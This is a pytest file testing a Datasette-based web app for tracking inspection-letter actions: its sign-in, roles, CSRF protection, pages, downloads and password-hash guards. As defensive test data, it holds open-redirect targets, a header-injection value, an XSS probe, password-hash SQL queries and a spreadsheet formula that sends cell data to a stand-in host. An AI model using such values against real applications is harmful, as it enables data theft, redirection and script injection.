"""`lettermine serve`'s Datasette plugin, in this process: sign-in, roles, CSRF, the pages, the
writes through the actions library, the guards on the users table."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from web_helpers import (
    EDITOR,
    PASSWORDS,
    TODAY,
    VIEWER,
    Web,
    action_id,
    cheap_hashes,
    copy_db,
    csrf,
)

from lettermine.actions import coverage, history, list_actions
from lettermine.db import connect
from lettermine.report import write_report
from lettermine.web import users
from lettermine.web.app import network_filesystem
from lettermine.web.auth import safe_next

NEL = "North East Lincolnshire"


@pytest.fixture(autouse=True)
def _cheap_hashes() -> Iterator[None]:
    with cheap_hashes():
        yield


@pytest.fixture
def db(web_seed: Path, tmp_path: Path) -> Path:
    return copy_db(web_seed, tmp_path / "tracker.db")


@pytest.fixture
def web(db: Path) -> Iterator[Web]:
    site = Web(db)
    yield site
    site.close()


def _history_rows(db: Path) -> int:
    conn = sqlite3.connect(db)
    try:
        return int(conn.execute("SELECT count(*) FROM action_history").fetchone()[0])
    finally:
        conn.close()


def _update(web: Web, action: int, **fields: str) -> object:
    page = web.get(f"/-/lettermine/actions/{action}")
    return web.post(
        f"/-/lettermine/actions/{action}/update", {"csrftoken": csrf(page.text), **fields}
    )


# -- nobody signed in ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/-/lettermine/letters/1",
        "/-/lettermine/actions/1",
        "/-/lettermine/search?q=x",
        "/-/lettermine/download/tracker.csv",
        "/tracker",
        "/tracker/actions",
        "/tracker.json",
        "/tracker/actions.json",
        "/tracker?sql=select+1",
        "/tracker/overdue_actions",
        "/-/lettermine/password",
    ],
)
def test_nothing_is_shown_to_nobody(web: Web, path: str) -> None:
    response = web.get(path)
    assert response.status_code == 302
    assert response.headers["location"].startswith("/-/login?next=")


def test_nobody_cannot_post_an_update(web: Web, db: Path) -> None:
    before = _history_rows(db)
    page = web.get("/-/login")  # a CSRF cookie and token, as a forged form would have
    response = web.post(
        "/-/lettermine/actions/1/update",
        {"csrftoken": csrf(page.text), "change": "progress", "percent": "90"},
    )
    assert response.status_code == 403
    assert _history_rows(db) == before


# -- signing in ----------------------------------------------------------------------------------


def test_sign_in_out_and_wrong_passwords(web: Web) -> None:
    wrong = web.sign_in(EDITOR, "not the password")
    assert wrong.status_code == 401
    assert "do not match" in wrong.text and "ds_actor" not in wrong.headers.get("set-cookie", "")
    unknown = web.sign_in("Nobody Here", "whatever it is")
    assert unknown.status_code == 401 and "do not match" in unknown.text
    signed = web.sign_in(EDITOR)
    assert signed.status_code == 302 and signed.headers["location"] == "/"
    cookie = signed.headers["set-cookie"]
    assert "ds_actor=" in cookie and "HttpOnly" in cookie and "SameSite=lax" in cookie
    board = web.get("/")
    assert (
        board.status_code == 200 and "Signed in as <strong>Head of Service</strong>" in board.text
    )
    out = web.post("/-/logout", {"csrftoken": csrf(board.text)})
    assert out.status_code == 302
    assert web.get("/").status_code == 302


def test_a_one_time_password_must_be_replaced(web: Web, db: Path) -> None:
    conn = connect(db)
    once = users.add_user(conn, "New Officer", "viewer")
    page = web.sign_in("New Officer", once)
    assert page.status_code == 200 and "Choose your own password" in page.text
    assert web.get("/").status_code == 302  # not signed in until a password is chosen
    token = re.search(r'name="token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    form = {"csrftoken": csrf(page.text), "token": token, "next": "/"}
    short = web.post("/-/lettermine/password", {**form, "new": "short", "again": "short"})
    assert short.status_code == 400 and "at least 10 characters" in short.text
    differ = web.post(
        "/-/lettermine/password", {**form, "new": "my own passphrase", "again": "my own passphrasE"}
    )
    assert differ.status_code == 400 and "not the same" in differ.text
    chosen = web.post(
        "/-/lettermine/password", {**form, "new": "my own passphrase", "again": "my own passphrase"}
    )
    assert chosen.status_code == 302
    assert web.get("/").status_code == 200
    # The one-time password is spent, and the token cannot be used twice.
    other = web.new_client()
    assert web.sign_in("New Officer", once, other).status_code == 401
    again = web.post(
        "/-/lettermine/password",
        {**form, "new": "another passphrase", "again": "another passphrase"},
    )
    assert again.status_code == 400 and "changed meanwhile" in again.text
    assert users.get_user(conn, "New Officer")["must_change"] is False


def test_failed_sign_ins_are_limited_per_name(web: Web) -> None:
    for _ in range(5):
        assert web.sign_in(VIEWER, "guess guess guess").status_code == 401
    refused = web.sign_in(VIEWER)  # even the right password, for a while
    assert refused.status_code == 429 and "Too many failed sign-ins" in refused.text
    assert web.sign_in(EDITOR).status_code == 302  # another name is not held up


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/-/lettermine/actions/3", "/-/lettermine/actions/3"),
        ("//evil.example/x", "/"),
        ("https://evil.example/", "/"),
        ("/\\evil.example", "/"),
        ("", "/"),
        (None, "/"),
        ("/ok\r\nSet-Cookie: x", "/"),
    ],
)
def test_after_sign_in_only_a_path_on_this_site(target: str | None, expected: str) -> None:
    assert safe_next(target) == expected


def test_a_removed_user_or_new_role_takes_effect_at_once(web: Web, db: Path) -> None:
    assert web.sign_in(EDITOR).status_code == 302
    action = action_id(connect(db))
    assert 'id="form-progress"' in web.get(f"/-/lettermine/actions/{action}").text
    users.set_role(connect(db), EDITOR, "viewer")
    page = web.get(f"/-/lettermine/actions/{action}")
    assert page.status_code == 200 and 'id="form-progress"' not in page.text
    users.remove_user(connect(db), EDITOR)
    assert web.get("/").status_code == 302


def test_a_password_reset_ends_sessions(web: Web, db: Path) -> None:
    assert web.sign_in(VIEWER).status_code == 302
    assert web.get("/").status_code == 200
    users.reset_password(connect(db), VIEWER)
    assert web.get("/").status_code == 302


# -- reading -------------------------------------------------------------------------------------


def _facts(text: str) -> dict[str, str]:
    table = re.search(r'<table class="lm-facts">(.*?)</table>', text, re.S).group(1)  # type: ignore[union-attr]
    rows = re.findall(r'<th scope="row">(.*?)</th><td>(.*?)</td>', table, re.S)
    return {k: re.sub(r"<[^>]+>", "", v).strip() for k, v in rows}


def test_the_board_gives_the_scrutiny_reports_figures(web: Web, db: Path, tmp_path: Path) -> None:
    assert web.sign_in(VIEWER).status_code == 302
    board = web.get("/")
    assert board.status_code == 200
    facts = _facts(board.text)
    path = write_report(
        connect(db), tmp_path / "report.docx", authority=NEL, since="2023-01-01", today=TODAY
    )
    report = docx.Document(str(path))
    key = {row.cells[0].text: row.cells[1].text for row in report.tables[0].rows[1:]}
    assert facts["Actions in the plan"] == key["Actions in the plan"]
    assert facts["Overdue now"] == key["Overdue now"]
    assert facts["Areas with no action"] == key["Areas with no action"]
    assert re.sub(r"\s+", " ", facts["RAG now"]).lower() == ", ".join(
        f"{c} {n}" for n, c in re.findall(r"(\d+) (\w+)", key["RAG now"])
    )
    # ... and both agree with the library.
    conn = connect(db)
    actions = list_actions(conn, authority=NEL, today=TODAY)
    assert facts["Actions in the plan"] == str(len(actions))
    assert facts["Overdue now"] == str(sum(a["overdue"] for a in actions))
    assert facts["Areas with no action"] == str(
        len(coverage(conn, authority=NEL, today=TODAY)["uncovered"])
    )


def test_the_board_shows_rag_in_words_and_every_section(web: Web) -> None:
    web.sign_in(VIEWER)
    text = web.get("/").text
    for heading in (
        "Key facts",
        "Actions by RAG and status",
        "Overdue actions",
        "Areas with no action",
        "Themes recurring across visits",
        "Letters",
        "Downloads",
    ):
        assert f">{heading}</h2>" in text
    assert text.count("<caption>") >= 7
    assert (
        '<span class="rag rag-amber">Amber</span> <span class="rag-reason">behind: 50% done' in text
    )
    assert 'class="lm-recurring"' in text  # themes raised in more than one visit
    assert (
        "<h1>Improvement board: North East Lincolnshire</h1>"
        in web.get("/", params={"la": "north east lincolnshire"}).text
    )
    missing = web.get("/", params={"la": "Nowhere"})
    assert missing.status_code == 404 and "No letters about &#39;Nowhere&#39;" in missing.text


def test_a_letter_page(web: Web, db: Path) -> None:
    web.sign_in(VIEWER)
    conn = connect(db)
    letter = conn.execute(
        "SELECT id FROM letters WHERE source LIKE '%2022-07-monitoring%'"
    ).fetchone()[0]
    page = web.get(f"/-/lettermine/letters/{letter}")
    assert page.status_code == 200
    text = page.text
    assert "<h1>Monitoring visit: North East Lincolnshire, 21–22 June 2022</h1>" in text
    assert "Areas for improvement and priority actions" in text and "Findings</h2>" in text
    assert "Plans that say what must change" in text  # an action answering one of its areas
    assert f'id="u{letter}-1"' in text  # each unit can be linked to
    assert web.get("/-/lettermine/letters/999").status_code == 404


def test_search_finds_changes_of_social_worker(web: Web) -> None:
    web.sign_in(VIEWER)
    page = web.get("/-/lettermine/search", params={"q": "changes of social worker"})
    assert page.status_code == 200
    assert "<mark>changes</mark> of <mark>social</mark> <mark>worker</mark>" in page.text
    assert "results for “changes of social worker”" in page.text
    bad = web.get("/-/lettermine/search", params={"q": "<script>alert(1)</script>"})
    assert bad.status_code == 200 and "<script>alert(1)" not in bad.text


def test_downloads(web: Web, db: Path) -> None:
    web.sign_in(VIEWER)
    plan = web.get("/-/lettermine/download/plan.docx", params={"la": NEL})
    assert plan.status_code == 200
    assert "attachment" in plan.headers["content-disposition"]
    document = docx.Document(io.BytesIO(plan.content))
    assert any(NEL in p.text for p in document.paragraphs)
    report = web.get(
        "/-/lettermine/download/report.docx", params={"la": NEL, "since": "2023-01-01"}
    )
    assert report.status_code == 200
    assert docx.Document(io.BytesIO(report.content)).paragraphs[0].text == "Scrutiny briefing note"
    tracker = web.get("/-/lettermine/download/tracker.csv")
    assert tracker.status_code == 200 and tracker.headers["content-type"].startswith("text/csv")
    lines = tracker.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("ref,title")
    assert len(lines) == 1 + connect(db).execute("SELECT count(*) FROM actions").fetchone()[0]
    nothing = web.get(
        "/-/lettermine/download/report.docx", params={"la": NEL, "since": "2030-01-01"}
    )
    assert nothing.status_code == 400 and "after today" in nothing.text


def test_datasette_tables_sql_and_canned_queries(web: Web, db: Path) -> None:
    web.sign_in(VIEWER)
    assert web.get("/tracker").status_code == 200
    actions = web.get("/tracker/actions.json?_shape=array")
    assert actions.status_code == 200 and len(actions.json()) == 6
    units = web.get("/tracker/units.json", params={"_search": "social workers", "_shape": "array"})
    assert units.status_code == 200 and units.json()
    overdue = web.get("/tracker/overdue_actions.json", params={"as_at": TODAY, "_shape": "array"})
    expected = list_actions(connect(db), overdue=True, today=TODAY)
    assert sorted(r["id"] for r in overdue.json()) == sorted(a["id"] for a in expected)
    assert web.get("/tracker/coverage.json", params={"authority": NEL}).status_code == 200
    recurring = web.get(
        "/tracker/recurring_themes.json", params={"authority": NEL, "_shape": "array"}
    ).json()
    assert {r["theme"] for r in recurring} >= {"workforce"}
    described = web.get("/tracker/action_history").text
    assert "append-only" in described


def test_nobody_reads_a_password_hash(web: Web) -> None:
    web.sign_in(EDITOR)
    assert web.get("/tracker/users").status_code == 403
    assert web.get("/tracker/users.json").status_code == 403
    for sql in (
        "select password_hash from users",
        "select * from users",
        "select group_concat(password_hash) from users",
        "with x as (select * from users) select * from x",
    ):
        response = web.get("/tracker.json", params={"sql": sql})
        assert response.status_code == 400, sql
        assert "scrypt$" not in response.text
    names = web.get(
        "/tracker.json", params={"sql": "select name, role from users", "_shape": "array"}
    )
    assert names.status_code == 200 and {r["name"] for r in names.json()} == {EDITOR, VIEWER}
    assert web.get("/_internal").status_code == 403


# -- writing -------------------------------------------------------------------------------------


def test_an_editor_records_progress_and_the_board_changes(web: Web, db: Path) -> None:
    action = action_id(connect(db))
    web.sign_in(EDITOR)

    def row() -> str:
        board = web.get("/").text
        return re.search(rf'<tr id="action-{action}">(.*?)</tr>', board, re.S).group(1)  # type: ignore[union-attr]

    assert "rag-amber" in row()
    response = _update(
        web, action, change="progress", percent="80", note="Pathway agreed with the ICB board"
    )
    assert response.status_code == 302
    assert response.headers["location"] == f"/-/lettermine/actions/{action}"
    page = web.get(f"/-/lettermine/actions/{action}")
    assert "Progress recorded." in page.text and "Pathway agreed with the ICB board" in page.text
    after = row()
    assert "rag-green" in after and "80%" in after and "Pathway agreed with the ICB board" in after
    assert EDITOR in after
    entry = history(connect(db), action)[-1]
    assert entry["author"] == EDITOR and entry["percent"] == 80 and entry["at"] == TODAY


def test_status_due_date_and_override_go_through_the_library(web: Web, db: Path) -> None:
    action = action_id(connect(db))
    web.sign_in(EDITOR)
    assert (
        _update(
            web, action, change="due", due="2024-06-30", reason="GP consultation later"
        ).status_code
        == 302
    )
    assert (
        _update(
            web, action, change="override", colour="red", reason="ICB not signed up"
        ).status_code
        == 302
    )
    assert _update(web, action, change="clear_override").status_code == 302
    assert (
        _update(web, action, change="status", status="done", note="Pathway live").status_code == 302
    )
    events = [(e["event"], e.get("author")) for e in history(connect(db), action)[-4:]]
    assert events == [
        ("due", EDITOR),
        ("override", EDITOR),
        ("override_cleared", EDITOR),
        ("status", EDITOR),
    ]
    row = (
        connect(db)
        .execute("SELECT due, original_due, status, percent FROM actions WHERE id = ?", [action])
        .fetchone()
    )
    assert tuple(row) == ("2024-06-30", "2024-03-31", "done", 100)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"change": "progress", "percent": "150"}, "percent must be between 0 and 100"),
        ({"change": "progress", "percent": "lots"}, "must be a whole number"),
        ({"change": "progress"}, "nothing to record"),
        ({"change": "progress", "note": "x", "date": "2023-01-01"}, "before"),
        ({"change": "status", "status": "verified"}, "cannot move from in_progress to verified"),
        ({"change": "due", "due": "2024-09-30", "reason": ""}, "needs a --reason"),
        ({"change": "override", "colour": "purple", "reason": "x"}, "unknown RAG colour"),
        ({"change": "clear_override"}, "no RAG override to clear"),
        ({"change": "delete"}, "unknown change"),
    ],
)
def test_a_bad_change_is_refused_and_nothing_is_written(
    web: Web, db: Path, fields: dict[str, str], message: str
) -> None:
    action = action_id(connect(db))
    before = _history_rows(db)
    web.sign_in(EDITOR)
    response = _update(web, action, **fields)
    assert response.status_code == 400
    assert "Nothing was recorded" in response.text and message in response.text
    assert _history_rows(db) == before


def test_a_viewer_sees_no_forms_and_a_forged_post_is_refused(web: Web, db: Path) -> None:
    action = action_id(connect(db))
    before = _history_rows(db)
    web.sign_in(VIEWER)
    page = web.get(f"/-/lettermine/actions/{action}")
    assert page.status_code == 200 and "<form" in page.text  # the sign-out form only
    assert 'method="post" action="/-/lettermine/actions' not in page.text
    assert "Editors record changes" in page.text
    forged = web.post(
        f"/-/lettermine/actions/{action}/update",
        {"csrftoken": csrf(page.text), "change": "progress", "percent": "99"},
    )
    assert forged.status_code == 403
    assert _history_rows(db) == before


def test_a_post_without_the_csrf_token_is_refused(web: Web, db: Path) -> None:
    action = action_id(connect(db))
    before = _history_rows(db)
    web.sign_in(EDITOR)
    for form in (
        {"change": "progress", "percent": "99"},
        {"csrftoken": "forged", "change": "progress", "percent": "99"},
    ):
        response = web.post(f"/-/lettermine/actions/{action}/update", form)
        assert response.status_code == 403
    assert _history_rows(db) == before
    assert web.get(f"/-/lettermine/actions/{action}/update").status_code == 405


def test_every_form_carries_the_csrf_token(web: Web, db: Path) -> None:
    web.sign_in(EDITOR)
    for path in ("/", f"/-/lettermine/actions/{action_id(connect(db))}", "/-/lettermine/password"):
        text = web.get(path).text
        for form in re.findall(r'<form[^>]*method="post".*?</form>', text, re.S):
            assert 'name="csrftoken"' in form, path


def test_labels_for_every_input(web: Web, db: Path) -> None:
    web.sign_in(EDITOR)
    for path in (
        f"/-/lettermine/actions/{action_id(connect(db))}",
        "/-/lettermine/search",
        "/-/lettermine/password",
        "/",
    ):
        text = web.get(path).text
        ids = re.findall(
            r'<(?:input|select|textarea)(?![^>]*type="(?:hidden|submit)")[^>]*\bid="([^"]+)"', text
        )
        labelled = set(re.findall(r'<label for="([^"]+)"', text))
        assert ids and set(ids) <= labelled, (path, set(ids) - labelled)


# -- the server around it ------------------------------------------------------------------------


def test_network_filesystems_are_recognised(tmp_path: Path) -> None:
    share, local = tmp_path / "share", tmp_path / "local"
    share.mkdir()
    local.mkdir()
    mounts = tmp_path / "mounts"
    mounts.write_text(
        f"/dev/sda1 / ext4 rw 0 0\n//server/team {share} cifs rw 0 0\ntmpfs {local} tmpfs rw 0 0\n"
    )
    assert network_filesystem(share / "tracker.db", mounts) == "cifs"
    assert network_filesystem(local / "tracker.db", mounts) is None
    assert network_filesystem(tmp_path / "tracker.db", mounts) is None
    mounts.write_text(f"server:/export {tmp_path} nfs4 rw 0 0\nx {share} fuse.sshfs rw 0 0\n")
    assert network_filesystem(tmp_path / "tracker.db", mounts) == "nfs4"
    assert network_filesystem(share / "tracker.db", mounts) == "fuse.sshfs"
    spaced = tmp_path / "team drive"
    spaced.mkdir()
    mounts.write_text(f"//s/t {str(spaced).replace(' ', chr(92) + '040')} smb3 rw 0 0\n")
    assert network_filesystem(spaced / "tracker.db", mounts) == "smb3"
    assert network_filesystem(share, tmp_path / "absent") is None


def test_passwords_are_not_in_the_pages(web: Web) -> None:
    web.sign_in(EDITOR)
    for path in ("/", "/tracker", "/-/metadata.json", "/-/lettermine/password"):
        assert PASSWORDS[EDITOR] not in web.get(path).text


def test_a_bug_is_logged_not_shown(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    from lettermine.web import pages

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("words from a letter")

    monkeypatch.setattr(pages, "board", broken)
    web.sign_in(VIEWER)
    response = web.get("/")
    assert response.status_code == 500
    assert "words from a letter" not in response.text and "log says what" in response.text


def test_the_board_as_at_a_day(web: Web, db: Path) -> None:
    action = action_id(connect(db))
    web.sign_in(EDITOR)
    assert _update(web, action, change="progress", percent="80", note="x").status_code == 302

    def row(query: dict[str, str]) -> str:
        board = web.get("/", params=query).text
        return re.search(rf'<tr id="action-{action}">(.*?)</tr>', board, re.S).group(1)  # type: ignore[union-attr]

    assert ">80%<" in row({})
    before = row({"as_at": "2024-01-31"})  # the history replayed: the update of 1 Feb not yet
    assert ">50%<" in before and "rag-amber" in before
    page = web.get("/", params={"as_at": "2024-01-31"}).text
    assert "As it stood at the end of <strong>31 January 2024</strong>" in page
    assert f'id="action-{action}"' not in web.get("/", params={"as_at": "2023-09-30"}).text
    future = web.get("/", params={"as_at": "2030-01-01"})
    assert future.status_code == 400 and "after today" in future.text
    assert web.get("/", params={"as_at": "soon"}).status_code == 400


def test_a_closed_area_counts_as_answered_on_the_board_and_the_letter(
    web: Web, db: Path, tmp_path: Path
) -> None:
    from lettermine.areas import close_area

    web.sign_in(VIEWER)
    before = _facts(web.get("/").text)
    uncovered = coverage(connect(db), authority=NEL, today=TODAY)["uncovered"][0]["unit"]
    close_area(connect(db), uncovered, reason="Overtaken by the next inspection", date=TODAY)
    after = _facts(web.get("/").text)
    assert int(after["Areas with no action"]) == int(before["Areas with no action"]) - 1
    assert after["Areas closed without an action"] == "1"
    path = write_report(connect(db), tmp_path / "r.docx", authority=NEL, since="2023-01-01",
                        today=TODAY)  # fmt: skip
    key = {r.cells[0].text: r.cells[1].text for r in docx.Document(str(path)).tables[0].rows[1:]}
    assert after["Areas with no action"] == key["Areas with no action"]
    assert after["Areas closed without an action"] == key["Areas closed without an action"]
    letter = web.get(f"/-/lettermine/letters/{uncovered.split(':')[0]}").text
    assert "<strong>Closed</strong> 1 Feb 2024: Overtaken by the next inspection" in letter


def test_the_tracker_as_a_workbook(web: Web, db: Path) -> None:
    import openpyxl

    web.sign_in(VIEWER)
    response = web.get("/-/lettermine/download/tracker.xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    actions = workbook.worksheets[0]
    assert actions.max_row == 1 + connect(db).execute("SELECT count(*) FROM actions").fetchone()[0]


def test_datasettes_own_csv_never_begins_a_formula(web: Web, db: Path) -> None:
    # A title and owner a spreadsheet would run, shown by Datasette's table CSV and a query's.
    conn = connect(db)
    conn.execute(
        "UPDATE actions SET owner = '@SUM(A1:A9)' WHERE id = ?", [action_id(conn)]
    )  # owner is a plain column (no history); the title goes through the library below
    conn.commit()
    from lettermine.actions import add_action

    add_action(conn, title='=HYPERLINK("http://x/?"&A1,"x")', owner="+44 1234", date=TODAY)
    web.sign_in(VIEWER)
    name = db.stem
    for path, params in (
        (f"/{name}/actions.csv", {"_dl": "1"}),
        (f"/{name}/actions.csv", {}),
        (f"/{name}.csv", {"sql": "select title, owner, '-2+3' as sum, -5 as n from actions"}),
    ):
        page = web.get(path, params=params)
        assert page.status_code == 200, (path, page.text[:200])
        rows = list(csv.reader(io.StringIO(page.content.decode("utf-8"))))
        cells = [c for row in rows[1:] for c in row]
        bad = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
               and not re.fullmatch(r"-?\d+(\.\d+)?", c)]  # fmt: skip
        assert cells and bad == [], path
        assert '\'=HYPERLINK("http://x/?"&A1,"x")' in cells and "'@SUM(A1:A9)" in cells, path
    # lettermine's own download is guarded once, not twice.
    tracker = web.get("/-/lettermine/download/tracker.csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in tracker and "''=HYPERLINK" not in tracker
